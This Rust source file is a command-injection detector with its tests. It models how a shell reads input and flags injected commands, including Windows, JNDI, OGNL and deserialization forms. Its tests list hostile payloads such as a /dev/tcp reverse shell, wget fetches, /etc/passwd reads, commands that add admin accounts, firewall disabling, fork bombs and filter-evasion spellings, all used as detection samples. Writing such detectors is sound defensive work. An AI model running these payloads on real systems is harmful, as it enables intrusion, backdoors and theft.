//! Command injection: does a value, placed into a shell command line by an application
//! (`system("ping " . $host)`), start a command of its own?
//!
//! The value is read as the shell reads it: words split on blanks, with quotes,
//! backslashes, `$@`/`${x}` and brace/glob tricks removed from each word (`c'a't`,
//! `/bi[n]/bash`, `w$@get` all name the program), and control operators (`;` `|` `&`
//! `&&` `||` newline, `` ` `` and `$(`, `<(`) where a new command begins. A command
//! position holding a known program, or an absolute path into a `bin` directory,
//! is an injection; English words that are also programs (`id`, `more`, `time`) count
//! only when the shell could not read them as prose (no blank after the operator, or
//! followed by an option or a path). Windows `cmd.exe` (`FOR /F ... DO`, `IF EXIST`)
//! and SSI `<!--#exec` are recognised by their keywords, code that runs commands
//! (`system('id')`, `<?php`, `{${phpinfo()}}`) by its calls (`cmdi/code.rs`), and Log4j's
//! `${jndi:...}` lookups through their obfuscations (`cmdi/jndi.rs`), and the OGNL and
//! SpEL expressions that Struts and Spring evaluate into a call of Java's `Runtime`
//! (`cmdi/ognl.rs`). A line of SMTP, IMAP or POP3 after a CR LF is a command the
//! application's mail session runs (`cmdi/mail.rs`). A deserialization gadget's class
//! name (`com.sun.rowset.JdbcRowSetImpl` in Fastjson's `@type`) is a command run by
//! the serializer that builds it (`cmdi/gadget.rs`).
//!
//! Where things are: the shell's reading of a value into words and operators in
//! `cmdi/lex.rs`, program names in `cmdi/words.rs`, globs in `cmdi/glob.rs`, shapes
//! judged on the whole value (brace expansions, fork bombs, Shellshock) in
//! `cmdi/shapes.rs`, a name joined from variables in `cmdi/vars.rs`, `cmd.exe` and SSI
//! in `cmdi/windows.rs`; this file decides where a command starts.

mod code;
mod gadget;
mod glob;
mod jndi;
mod lex;
mod mail;
mod ognl;
mod shapes;
mod vars;
mod windows;
mod words;

pub(crate) use gadget::qualified_shape;
use lex::{Op, Tok, Word, html_entity, is_blank, tokens};
use shapes::{shellshock, whole_shapes};
use windows::windows_or_ssi;

use crate::profile::{Profile, class};

/// A detected command injection.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CmdiMatch {
    /// The program the value runs (normalised).
    pub command: String,
}

const MAX_VALUE: usize = 4096;

/// Judge one decoded value.
pub fn detect(value: &[u8]) -> Option<CmdiMatch> {
    detect_profiled(value, Profile::of(value))
}

/// [`detect`] with the value's byte classes already known. A value longer than
/// [`MAX_VALUE`] is judged in windows of that size overlapping by 1 KiB
/// ([`crate::window`]), not on its prefix only.
pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<CmdiMatch> {
    detect_prefix(value, p).or_else(|| {
        crate::window::rest(value, MAX_VALUE, MAX_VALUE - 1024)
            .find_map(|w| detect_prefix(w, Profile::of(w)))
    })
}

/// The judgement of a value's first [`MAX_VALUE`] bytes.
fn detect_prefix(value: &[u8], p: Profile) -> Option<CmdiMatch> {
    let p = p.cut(value, MAX_VALUE);
    let v = &value[..value.len().min(MAX_VALUE)];
    // (Every serialized object this reads has a `:` (PHP's fields, Ruby's `::`), a
    // `(` (a text pickle's MARK) or a byte past ASCII (Java's and pickle's magic).)
    let serialized = || {
        p.any(class::COLON | class::PAREN | class::PATH_DECODE)
            .then(|| gadget::serialized(v))
            .flatten()
    };
    if let Some(class) = gadget::named(v).or_else(serialized) {
        return hit(&format!("deserialization {class}"));
    }
    // Without an operator (`; | & ` $ \n \r { ( < > %`) the only injection is a whole
    // command line: its first word must be a program. Most values stop here, before
    // any allocation.
    if !p.any(class::SHELL_OP) {
        let first = v
            .split(|&c| is_blank(c))
            .find(|w| !w.is_empty())
            .unwrap_or(b"");
        // Quotes and backslashes dropped, lower-cased: copied only when that changes it.
        let owned: Vec<u8>;
        let first: &[u8] = if first
            .iter()
            .any(|&c| matches!(c, b'\'' | b'"' | b'\\') || c.is_ascii_uppercase())
        {
            owned = first
                .iter()
                .filter(|&&c| !matches!(c, b'\'' | b'"' | b'\\'))
                .map(u8::to_ascii_lowercase)
                .collect();
            &owned
        } else {
            first
        };
        // (Batch keywords, `.` and `dd`, judged with their operands below.)
        let batch = matches!(first, b"if" | b"for" | b"." | b"dd");
        if !(batch
            || words::strong(first)
            || words::weak(first)
            || words::bin_path(first)
            || words::wrapper(first)
            || first.contains(&b'[')
            || glob::target(first).is_some())
        {
            return None;
        }
    }
    if let Some(m) = windows_or_ssi(v) {
        return Some(m);
    }
    if let Some(function) = code::injected(v) {
        return hit(function);
    }
    if shellshock(v) {
        return hit("shellshock");
    }
    if let Some(scheme) = jndi::lookup(v) {
        return hit(&format!("jndi:{scheme}"));
    }
    if let Some(kind) = ognl::expression(v) {
        return hit(kind);
    }
    if let Some(path) = glob_word(v) {
        return hit(&format!("glob {path}"));
    }
    if let Some(m) = whole_shapes(v) {
        return Some(m);
    }
    if let Some(program) = vars::joined(v) {
        return hit(&format!("variables {program}"));
    }
    if sourced_file(v) {
        return hit(". (source)");
    }
    // Bash's network redirections (`exec 5<>/dev/tcp/10.0.0.1/80`, `>& /dev/tcp/...`):
    // a reverse shell whatever the program.
    for dev in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
        if memchr::memmem::find(v, dev).is_some() {
            return hit(&String::from_utf8_lossy(dev));
        }
    }
    // HTML character references, as a page or an XML parser that carried the value
    // decodes them (`&#x7B;`, `&amp;`), are read both ways.
    command_line(&tokens(v)).or_else(|| {
        memchr::memchr_iter(b'&', v)
            .any(|i| html_entity(v, i).is_some())
            .then(|| {
                let decoded = crate::decode::html_decode(v);
                command_line(&tokens(&decoded)).or_else(|| whole_shapes(&decoded))
            })
            .flatten()
    })
}

/// `. /tmp/php??????`, `;. /???/????????[@-[]`: the `.` builtin, written bare where a
/// command starts, sourcing an absolute path (a PHP upload left in the temporary
/// directory, found by a glob).
fn sourced_file(v: &[u8]) -> bool {
    memchr::memmem::find_iter(v, b". /").any(|i| {
        let before = v[..i].iter().rev().find(|c| !matches!(c, b' ' | b'\t'));
        let path = &v[i + 3..];
        before.is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'('))
            && path
                .first()
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'?')
    })
}

/// The command a value's words and operators start, if any.
fn command_line(toks: &[Tok]) -> Option<CmdiMatch> {
    // The value may itself be the start of the command (`cat /etc/passwd`), or follow
    // an operator, or sit inside backticks / `$( )`.
    let mut at_start = true;
    let mut after_op: Option<Op> = None;
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::Op(op) => {
                after_op = Some(*op);
                at_start = false;
            }
            Tok::Word(w) => {
                // The shell's reserved words before a command, glued to the operator as
                // payloads write them (`;do echo $l;done`, `;then cat ...`; a script in
                // documentation writes `; do echo`): the command is the next word.
                if matches!(after_op, Some(Op::Seq { glued: true }))
                    && matches!(w.text.as_slice(), b"do" | b"then" | b"else")
                {
                    continue;
                }
                if at_start || after_op.is_some() {
                    if let Some(name) = variable(&w.text) {
                        // `$c` as the command: what the value assigned it (`c=cat&&$c
                        // /etc/passwd`); unassigned, it expands to nothing and the next
                        // word is the command (`;$u wget ...`).
                        if let Some(program) = assigned_program(&toks[..i], name) {
                            return hit(&program);
                        }
                        continue;
                    }
                    if let Some(m) = wrapped(&toks[i..]).or_else(|| builtin(&toks[i..])) {
                        return Some(m);
                    }
                }
                if let Some(op) = after_op.take() {
                    // (`Cat` is no Unix program: `&quot;Make is ...` is prose.)
                    if w.could_run() && command_here(w, op, &toks[i + 1..]) {
                        return hit(&String::from_utf8_lossy(&w.text));
                    }
                } else if at_start
                    && w.could_run()
                    && (((words::strong(&w.text) || words::bin_path(&w.text))
                        && toks.get(i + 1).is_some_and(|n| match n {
                            Tok::Word(_) => shellish_arg(n),
                            // `cat;`, `ls|nc ...`, `uname `id``; not `cat & dog` or
                            // `PHP (Hypertext Preprocessor)`, whose operator starts no
                            // command (one after it is judged there).
                            Tok::Op(op) => matches!(op, Op::Seq { .. } | Op::Subst),
                        }))
                        // (`true` and `false` run nothing: `has_focus=false%0A` is a
                        // form's flag, where `id%0A` is a probe.)
                        || (words::weak(&w.text)
                            && !matches!(w.text.as_slice(), b"true" | b"false")
                            && ends_command(&toks[i + 1..]))
                        || ((words::strong(&w.text) || words::weak(&w.text))
                            && redirects_to_path(&toks[i + 1..]))
                        // `nslookup x.oast.example.com`: a probe out of band.
                        || (words::network(&w.text)
                            && matches!(toks.get(i + 1), Some(Tok::Word(h)) if words::host_name(&h.text)))
                        // `w'h'oami`, `'c'url localhost`: spliced to pass a filter.
                        || (w.spliced
                            && w.text.len() >= 3
                            && !w.text.contains(&b'/')
                            && words::strong(&w.text))
                        // `more /etc/passw''d`, `awk '1' /etc/passw\d`: an argument, an
                        // absolute path spliced the same way, which only a shell reads
                        // as one path.
                        || ((words::strong(&w.text) || words::weak(&w.text))
                            && spliced_path(&toks[i + 1..])))
                {
                    // `cat /etc/passwd`, `/bin/ls -al`, `id;`: a whole command line as the
                    // value.
                    return hit(&String::from_utf8_lossy(&w.text));
                }
                at_start = false;
            }
        }
    }
    None
}

fn hit(command: &str) -> Option<CmdiMatch> {
    Some(CmdiMatch {
        command: command.to_string(),
    })
}

/// A word that is one parameter expansion, `$name`: its name.
fn variable(w: &[u8]) -> Option<&[u8]> {
    let name = w.strip_prefix(b"$")?;
    (!name.is_empty()
        && name[0].is_ascii_alphabetic()
        && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_'))
    .then_some(name)
}

/// The program an earlier `name=program` word of the value assigned to `name`.
fn assigned_program(before: &[Tok], name: &[u8]) -> Option<String> {
    before.iter().rev().find_map(|t| {
        let Tok::Word(w) = t else { return None };
        let value = w.text.strip_prefix(name)?.strip_prefix(b"=")?;
        (words::strong(value) || words::weak(value) || words::bin_path(value))
            .then(|| String::from_utf8_lossy(value).into_owned())
    })
}

/// Shell builtins that only a shell reads with these arguments: `alias name=...`,
/// `alias -p`, `set -o history`; the sqlite3 shell's `.shell` / `.system`; and `dd`
/// with its operands.
fn builtin(toks: &[Tok]) -> Option<CmdiMatch> {
    let word = |k: usize| match toks.get(k) {
        Some(Tok::Word(w)) => Some(w.text.as_slice()),
        _ => None,
    };
    let first = word(0)?;
    let next = word(1);
    let option = |n: &[u8]| n.first() == Some(&b'-') && n.len() > 1;
    let shell = match first {
        b"alias" => next.is_some_and(|n| option(n) || n.iter().skip(1).any(|&c| c == b'=')),
        // (`+o` reads as `o`: a `+` is taken for a form-encoded blank.)
        b"set" => next.is_some_and(|n| n == b"-o"),
        b".shell" | b".system" => true,
        // `dd if=/etc/passwd`: its operands, not HTML's `</dd>`.
        b"dd" => next.is_some_and(|n| {
            n.starts_with(b"if=") || n.starts_with(b"of=") || n.starts_with(b"bs=")
        }),
        _ => false,
    };
    shell.then(|| CmdiMatch {
        command: String::from_utf8_lossy(first).into_owned(),
    })
}

/// A command line run through a wrapper: `nohup sh -c whoami`, `cpulimit -l 100 -f
/// whoami`, `time sh -c whoami`, `strace who` (see [`words::wrapper`]).
fn wrapped(toks: &[Tok]) -> Option<CmdiMatch> {
    let Some(Tok::Word(first)) = toks.first() else {
        return None;
    };
    let english = words::english_wrapper(&first.text);
    if !(english || words::wrapper(&first.text)) {
        return None;
    }
    // A wrapper that is no word of prose runs a program that is one too (`nohup who`),
    // as long as it ends the command line or takes an option or a path; `env` and
    // `exec` also take plain words (`env test`).
    let weak_too = !english && !matches!(first.text.as_slice(), b"env" | b"exec");
    // The program: within the next four words, past options, numbers and paths.
    for (j, t) in toks.iter().enumerate().skip(1).take(4) {
        let Tok::Word(w) = t else { return None };
        let ends = || {
            toks.get(j + 1)
                .is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n))
        };
        let program = words::strong(&w.text)
            || words::bin_path(&w.text)
            || (weak_too && words::weak(&w.text) && ends());
        if program && (!english || toks.get(j + 1).is_some_and(shellish_arg)) {
            return hit(&String::from_utf8_lossy(&w.text));
        }
        let skippable = w.text.first() == Some(&b'-')
            || w.text.first() == Some(&b'/')
            || w.text.iter().all(u8::is_ascii_digit);
        if english || !skippable {
            return None;
        }
    }
    None
}

fn command_here(w: &Word, op: Op, rest: &[Tok]) -> bool {
    let text = &w.text;
    if words::bin_path(text) {
        return true;
    }
    let next = rest.first();
    // T-SQL's `;waitfor delay '0:0:5'` is SQL (sqlmap puts any blank between the two,
    // a line break too); Windows' `waitfor` takes `/t` and a name.
    if text == b"waitfor" {
        let word = rest.iter().find_map(|t| match t {
            Tok::Word(w) => Some(w.text.as_slice()),
            Tok::Op(_) => None,
        });
        if matches!(word, Some(b"delay" | b"time")) {
            return false;
        }
    }
    let program = words::strong(text) || words::weak(text);
    match op {
        Op::Subst => words::strong(text) || (words::weak(text) && !words::tool(text)),
        Op::Seq { glued } => {
            words::strong(text)
                || (words::weak(text)
                    && (glued
                        || next.is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n))
                        || redirects_to_path(rest)))
        }
        Op::Amp { glued } => {
            (words::strong(text) && next.is_none_or(|n| matches!(n, Tok::Op(_)) || shellish_arg(n)))
                || (glued
                    && program
                    && (next.is_none_or(|n| matches!(n, Tok::Op(_))) || redirects_to_path(rest)))
        }
    }
}

/// Does the command whose arguments `rest` starts with send its output to a path
/// (`id > /var/www/html/x.txt`, `echo x >/tmp/y`, `whoami > C:\temp\o.txt`)? Writing
/// a file into the web root is how injection tools see their output when the page
/// shows none (commix's file-based technique); prose puts no `>` before a path.
fn redirects_to_path(rest: &[Tok]) -> bool {
    arguments(rest).take(8).any(|w| {
        // A file: `/` and a name (not `/` alone, nor a `//` comment), a drive
        // path, or one under a variable (`%temp%\\x`).
        let t = &w.text;
        w.redirected
            && match t.as_slice() {
                [b'/', c, ..] => c.is_ascii_alphanumeric() || *c == b'.',
                [b'c', b':', _, ..] | [b'%', _, ..] => true,
                _ => false,
            }
    })
}

/// After a word that is also English (`id`, `system`, `history`): a `;` `|` `&&` `||`
/// that ends the value, is glued to what follows (`id;`, `id|nc ...`), or starts a
/// command line: a program, a hyphenated name as multi-part programs have
/// (`ansible-vault`, `ssh-keygen`), or an option, a path or an address among its
/// arguments (`time; ansible all -m ping`). Prose puts a blank after its semicolons
/// and goes on in words (`system; it is up to the author ...`).
fn ends_command(rest: &[Tok]) -> bool {
    let Some(Tok::Op(Op::Seq { glued })) = rest.first() else {
        return false;
    };
    let mut line = rest[1..].iter().map_while(|t| match t {
        Tok::Word(w) => Some(w),
        Tok::Op(_) => None,
    });
    let program = |w: &Word| {
        let t = &w.text;
        words::strong(t)
            || words::weak(t)
            || words::bin_path(t)
            || t.windows(3)
                .any(|p| p[0].is_ascii_alphanumeric() && p[1] == b'-' && p[2].is_ascii_alphabetic())
    };
    *glued
        || rest.len() == 1
        || line.next().is_some_and(program)
        || line.any(|w| shellish_word(&w.text))
}

/// The first word of the value that is a glob spelling a system path (`/???/??t`).
fn glob_word(v: &[u8]) -> Option<&'static str> {
    if memchr::memchr3(b'?', b'*', b'[', v).is_none() || memchr::memchr(b'/', v).is_none() {
        return None;
    }
    v.split(|c| is_blank(*c) || b";|&`()<>{},'\"\n\r=".contains(c))
        .find_map(glob::target)
}

/// The words of a command's arguments: those before the next operator.
fn arguments(rest: &[Tok]) -> impl Iterator<Item = &Word> {
    rest.iter().map_while(|t| match t {
        Tok::Word(w) => Some(w),
        Tok::Op(_) => None,
    })
}

/// Is one of a command's first arguments an absolute path with quotes or a backslash
/// inside its name (`/etc/passw''d`, `/etc/passw\d`)?
fn spliced_path(rest: &[Tok]) -> bool {
    arguments(rest)
        .take(4)
        .any(|a| a.spliced && a.text.starts_with(b"/"))
}

/// An argument only a command line has: an option, a path, a URL, an address.
fn shellish_arg(t: &Tok) -> bool {
    let Tok::Word(w) = t else { return true };
    shellish_word(&w.text)
}

fn shellish_word(s: &[u8]) -> bool {
    s.first() == Some(&b'-') && s.len() > 1
        || s.first() == Some(&b'/')
        || s.starts_with(b"http://")
        || s.starts_with(b"https://")
        || s.starts_with(b"c:")
        || (s.iter().filter(|&&c| c == b'.').count() == 3
            && s.iter().all(|c| c.is_ascii_digit() || *c == b'.'))
        || s.first() == Some(&b'$')
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn commands(values: &[&str]) {
        for v in values {
            assert!(detect(v.as_bytes()).is_some(), "{v:?}");
        }
    }

    fn prose(values: &[&str]) {
        for v in values {
            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
        }
    }

    /// A word that is also English, then `;`: a command when glued, last, or followed by
    /// a command line; prose after a blank is not.
    #[test]
    fn english_programs_before_a_semicolon() {
        commands(&[
            "id;",
            "id;uname",
            "time; ansible-config dump\n",
            "time; ansible all -m ping",
            "c${u}at /etc/passwd",
            ";w${x}hoami",
        ]);
        prose(&[
            "system; it is up to the author/donor to decide if he or she is willing",
            "\"History\"; likewise combine any sections Entitled \"Acknowledgements\",",
            "date; see the notes below",
        ]);
    }

    /// Bash's ANSI-C quotes spell a name in escapes; the new programs of fray's lists.
    #[test]
    fn ansi_c_quoted_names_and_windows_delays() {
        commands(&[
            ";$'\\x69\\x64'",
            ";$'\\151\\144'",
            "| $'\\x63\\x61\\x74' /etc/passwd",
            "; waitfor /t 5 pause",
            "& choice /t 5 /d y",
            ";ss -tulpn",
            "; java -jar reverse.jar evil.com 4444",
            // PureWaf's: reserved words before a command, the `.` builtin, more readers
            "while read line;do echo $line;done</etc/passwd",
            "more /etc/passw''d",
            "dd if=/etc/passwd",
            "`dd bs=1 if=/etc/passwd`",
            "awk '1' /etc/passw\\d",
            "sort${IFS}/etc/passw''d",
            ". /???/????????[@-[]",
            ";. /tmp/php??????",
            "shuf /etc/passwd",
        ]);
        prose(&[
            "it costs $'5 or $'\\x35",
            "I drink java; it is good",
            "a choice; another choice",
            "1;waitfor delay '0:0:5'--",
            "1;WAITFOR\rDELAY\t'0:0:5'--",
            "Do this. Then that. Else nothing.",
            "see p. /docs/intro",
            "'; '.</li>",
            "// callback runs in the server's MakeCallback().</span>",
            "for i in {0..10000}; do echo; done",
            "</dd></dl><dt>java</dt><dd><a href=x>y</a>",
            "(column,)",
            "find the file O''Brien sent",
            "type C:\\Users\\me\\notes.txt",
            "- `PR #908 <https://github.com/pika/pika/pull/908>`_",
        ]);
    }

    /// Brace expansions that spell a program.
    #[test]
    fn brace_expansions() {
        commands(&[
            "c{a,oun}t",
            "c{a,oun}t /etc/passwd",
            "{,$\"whoami\",}",
            "w{h,x}oami",
        ]);
        prose(&[
            "file{1,2}.txt",
            "l{s,x}",
            "{a,b}",
            "/api/{id}",
            "{\"a\":1,\"b\":2}",
            "tags={cat,dog}",
            "{\"cat\",\"dog\"}",
        ]);
    }

    /// A program's name spliced by quotes to pass a filter is a command line alone; a
    /// word quoted whole, and words with apostrophes, are not.
    #[test]
    fn spliced_names() {
        commands(&["w'h'oami", "'wh'oami", "'c'url localhost", "\"ca\"t"]);
        prose(&[
            "'whoami'",
            "\"curl\"",
            "don't",
            "O'Brien's cat",
            "the l's and i's",
        ]);
    }

    /// Markdown quotes names as code: a word at a command position only after an opening
    /// backtick, and a lone English-word program in prose is a name.
    #[test]
    fn markdown_code_spans() {
        commands(&[
            "`id`",
            "hello `id` there",
            "please run `id` for us on the box today now",
            "a`whoami`b",
            "`type` x",
            "x `sleep 5` y",
        ]);
        prose(&[
            "`type` is the type of the condition. Required.",
            "The default policy is `OrderedReady`, where pods are created. The alternative is `Parallel` which will create them",
            "with `-o context` mount option. This applies to all volumes",
            "The `host` should not refer to a service running in the cluster",
        ]);
    }

    /// Fork bombs, in their usual spellings and with the calls' `()` kept.
    #[test]
    fn fork_bombs() {
        commands(&[
            ":(){ :|:& };:",
            "cmd=:(){:|:&};:",
            "f(){ f|f& };f",
            ".(){ .|.& };.",
            "f(){ f() | f(); }; f",
            "bomb() { bomb & bomb; }; bomb",
        ]);
        prose(&[
            "render(){ return a|b }",
            "fib(n){ return fib(n - 1) + fib(n - 2) }",
            "x() {}",
            "f(){ g|g& }",
        ]);
    }

    /// A command whose output goes to a file: how commix's file-based technique reads
    /// what a page does not show. Held-out: 168 of its 10,623 payloads were missed
    /// before, all of this shape.
    #[test]
    fn output_redirected_to_a_file() {
        commands(&[
            "id > /var/www/example.com/public_html/HVQKRZ.txt",
            "\"id > /var/www/html/HVQKRZ.txt",
            "'echo HVQKRZ > /var/www/html/HVQKRZ.txt",
            "127.0.0.1&id > /var/www/html/HVQKRZ.txt",
            "echo HVQKRZ >/tmp/x",
            "whoami > C:\\temp\\o.txt",
        ]);
        prose(&[
            // A `>` that closes an HTML tag redirects nothing.
            "test <script src=\"/x.js\"></script> // Safari 5.0",
            "<b>id</b> > /x",
            "<td>date</td><td>/usr/share</td>",
            // Not a file: `/` alone, a `//` comment.
            "test x='<%' </script> %>/ alert(2)",
            "time > // later",
            // No program before it.
            "Settings > /admin",
            "score > 5",
        ]);
    }

    /// A value that opens with a lone `&` continues the application's command line.
    #[test]
    fn leading_ampersand() {
        commands(&[
            "& net user hacker Password1 /ADD",
            "& sleep 5",
            "& netsh firewall set opmode disable",
            "&ping -n 5 127.0.0.1",
            "{,ip,a}",
            "{cat,/etc/hosts}",
        ]);
        prose(&[
            "Tom & Jerry",
            "cat & dog",
            "&quot;Make is a tool&quot;",
            "Q&A: more to come",
        ]);
        prose(&["{\"cmd\": \"more\"}", "(at your option) any later version"]);
    }

    /// Windows administration as the whole value (IntruderPayloads' `command_exec`):
    /// `net` and `reg` need their subcommand and a switch or a hive; prose about nets
    /// and registers stays prose.
    #[test]
    fn windows_administration_as_the_whole_value() {
        commands(&[
            "net user hacker Password1 /ADD",
            "net localgroup Administrators hacker /ADD",
            "NET USE \\\\10.0.0.1\\c$ /user:admin x",
            "netsh firewall set opmode disable",
            "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
            "reg query HKCU\\Software",
        ]);
        prose(&[
            "net user growth was 5% /year",
            "net use of funds",
            "reg add to the list",
            "net price 40 /add-on",
        ]);
    }

    /// Command lines run through a wrapper, and bash's network redirections; prose
    /// that starts with an English wrapper stays prose.
    #[test]
    fn wrappers_and_dev_tcp() {
        commands(&[
            "nohup sh -c whoami",
            "strace sh -c whoami",
            "cpulimit -l 100 -f whoami",
            "flock -u / whoami",
            "timeout 5 ping 10.0.0.1",
            "time sh -c whoami",
            "exec 5<>/dev/tcp/8.8.8.8/80",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            // a program's absolute path with a path argument (a glob in its name)
            "/bin/ca? /et*/passwd",
        ]);
        prose(&[
            "nice cat pictures",
            "time flies like an arrow",
            "watch dir changes",
        ]);
    }

    /// What a shell does to a word before it runs it: globs spelling a system path,
    /// variables (set in the value, or unset: nothing), empty substitutions and special
    /// parameters inside a name, versioned interpreters.
    #[test]
    fn shell_expansions() {
        commands(&[
            "/???/b??h -c id",
            "/usr/[a-z]in/wget http://e.example/x",
            "q=/etc/pa[!x]swd",
            "x=cat;$x /etc/hosts",
            ";$foo wget http://e.example/a",
            "w``get http://e.example/x",
            "1;who$()ami",
            "1;who$?ami",
            "unam$x\\e -a",
            "python3.11 -c 'import os'",
        ]);
        prose(&[
            "/images/*.png",
            "/docs/[draft]/notes",
            "total: $5 & more",
            "a=b; $x is the price",
        ]);
    }

    /// What prose writes that a shell reads differently: a sentence-case word (no Unix
    /// program is `Make`), HTML references (`&quot;`), a `${NAME}` after a word.
    #[test]
    fn sentence_case_references_and_variables_are_prose() {
        prose(&[
            "Make -dev package depend on the library package.",
            "Mount /proc with -o compatible on HURD only",
            "Bug fix: \"&quot;Make is a HUGE memory hog&quot;\", thanks",
            "d/rules: stop exporting ${PYTHON}",
        ]);
        commands(&[
            "make -j4 /tmp/x",
            "Ipconfig /all",
            "1;Whoami",
            "x&#x3B;cat /etc/passwd",
            "view=a.jpg&amp;wget http://e.example/s",
            "${cmd}",
        ]);
    }

    /// Wrappers after an operator, builtins only a shell reads, sqlite3's shell escapes,
    /// shellshock, cmd.exe's loops and comparisons; the prose they resemble.
    #[test]
    fn builtins_wrappers_and_batch() {
        commands(&[
            "1;flock -u / id",
            "x|nohup who",
            "alias l=ls",
            "set -o history",
            "1;\n.system id",
            "() { :; }; /bin/id",
            "if /i \"%x%\"==\"y\" del a",
            "if (1) neq (2) echo x",
            "%%i in (*.txt) do type %%i",
            "%f in (a,b)do @echo %f",
            "IF NOT EXIST C:\\nonexistent echo hey",
            "if not defined _x echo missing",
            "IF NOT red===red echo test",
            "if not {%1} == {}",
        ]);
        prose(&[
            "If not now, when?",
            "survival is unlikely (~2% if not in a hospital)",
            "Kubernetes & Docker",
            "PHP & MySQL",
            "run `systemctl restart nginx` after the upgrade",
            "if you want == more",
            "for all in (this) do that",
            "alias of the user",
            "set off at dawn",
            "env test",
        ]);
    }

    /// A line break separates commands as `;` does (wapiti's `[VALUE][LF]env;`), and
    /// like `; ` followed by prose, a line of prose is not one.
    #[test]
    fn line_breaks_separate_commands() {
        commands(&[
            "1\nenv;",
            "1\ncat /etc/passwd",
            "x\r\nwget http://e.example/s",
            "1\nid",
        ]);
        prose(&[
            "Dear team,\nmore details follow next week",
            "Line one\ntime flies when you are having fun",
        ]);
    }

    /// A `(` or `{` after a word opens no subshell or group (sh refuses the line, or
    /// takes the braces as an argument): templates and asides are not commands, while
    /// the same words after an operator or alone still are.
    #[test]
    fn parentheses_and_braces_after_a_word() {
        commands(&[
            "(id)",
            "{id}",
            "a;(id)",
            "x&&{cat,/etc/passwd}",
            "hello (whoami)",
            "ping (cat /etc/passwd)",
        ]);
        prose(&[
            "hello world (test)",
            "see the manual (more info)",
            "/api/users/{id}",
            "report_{date}.csv",
            "1.e(ascii)",
        ]);
    }

    /// `true` and `false` run nothing: a form's flag with a line break after it is no
    /// command line, where another word that is also a program is (`id%0A`).
    #[test]
    fn no_op_words_before_a_line_break() {
        commands(&["id\n", "date;"]);
        prose(&["false\n", "true\r\n", "false"]);
    }

    /// A network tool and a host name as the whole value: the out-of-band probe of an
    /// application that runs its input (nuclei's Dkron and Dahua templates).
    #[test]
    fn network_probes_as_the_whole_value() {
        commands(&[
            "nslookup  kqzxw.oast.example.com",
            "ping oast.example.com index.pcap",
            "curl example.com",
        ]);
        prose(&[
            "ping me at example.com",
            "dig example",
            "ping the host.example team",
        ]);
    }
}
